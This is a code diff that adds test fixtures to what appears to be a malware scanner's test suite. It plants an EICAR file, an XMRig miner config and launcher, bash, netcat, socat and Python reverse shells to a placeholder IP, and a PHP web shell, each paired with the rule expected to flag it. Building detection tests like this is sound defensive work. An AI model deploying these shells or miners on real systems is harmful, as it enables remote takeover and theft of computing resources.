@@ -114,3 +114,40 @@ export function plantedSecretFiles(list: readonly PlantedSecret[]): Record<strin
   for (const s of list) if (s.content !== '') files[s.path] = s.content
   return files
 }
+
+/** One planted malicious file and the rule that must report it. */
+export interface PlantedMalware {
+  readonly path: string
+  readonly content: string | Buffer
+  readonly rule: string
+  readonly line?: number
+  readonly mode?: number
+}
+
+/** Planted malicious content: EICAR, an XMRig config and launcher, reverse shells, web shells. */
+export function plantedMalware(): PlantedMalware[] {
+  const xmrigConfig = JSON.stringify({
+    autosave: true, 'donate-level': 1, cpu: { enabled: true, 'max-threads-hint': 100 },
+    pools: [{ algo: 'rx/0', coin: 'monero', url: 'pool.supportxmr.com:443', user: '44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A', tls: true }],
+  }, null, 2)
+  return [
+    { path: 'tmp/.cache/eicar.com', content: eicar(), rule: 'known-bad-hash' },
+    { path: 'srv/www/eicar-padded.txt', content: Buffer.concat([eicar(), Buffer.from('   \n')]), rule: 'eicar-test-file', line: 1 },
+    { path: 'opt/.x/config.json', content: xmrigConfig, rule: 'miner-xmrig-config', line: 3 },
+    { path: 'opt/.x/config.json', content: '', rule: 'miner-pool-host', line: 12 },
+    { path: 'usr/local/bin/start-worker.sh', content: '#!/bin/sh\ncd /opt/.x\n./xmrig -o stratum+tcp://xmr.pool.minergate.com:45700 -u worker1 -p x --donate-level 1 &\n', rule: 'miner-launcher', line: 3, mode: 0o755 },
+    { path: 'usr/local/bin/start-worker.sh', content: '', rule: 'miner-stratum-url', line: 3 },
+    { path: 'usr/local/bin/update.sh', content: '#!/bin/bash\nwhile true; do\n  bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n  sleep 60\ndone\n', rule: 'reverse-shell-dev-tcp', line: 3, mode: 0o755 },
+    { path: 'opt/tools/backup.sh', content: '#!/bin/sh\nnc -e /bin/sh 203.0.113.7 9001\n', rule: 'reverse-shell-netcat', line: 2 },
+    { path: 'opt/tools/sync.sh', content: '#!/bin/sh\nsocat TCP:203.0.113.7:5555 EXEC:/bin/bash,pty,stderr,setsid\n', rule: 'reverse-shell-socat', line: 2 },
+    { path: 'opt/tools/health.py', content: 'import os\nos.system("python3 -c \'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\\"203.0.113.7\\",4242));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);import pty;pty.spawn(\\"/bin/sh\\")\'")\n', rule: 'reverse-shell-script', line: 2 },
+    { path: 'var/www/html/wp-content/uploads/img.php', content: "<?php\nif (isset($_REQUEST['cmd'])) {\n  echo '<pre>'; system($_REQUEST['cmd']); echo '</pre>';\n}\n?>\n", rule: 'web-shell-php', line: 3 },
+  ]
+}
+
+/** The planted malware merged into files. */
+export function plantedMalwareFiles(list: readonly PlantedMalware[]): Record<string, { content: string | Buffer; mode?: number }> {
+  const files: Record<string, { content: string | Buffer; mode?: number }> = {}
+  for (const m of list) if (m.content !== '') files[m.path] = { content: m.content, ...(m.mode ? { mode: m.mode } : {}) }
+  return files
+}
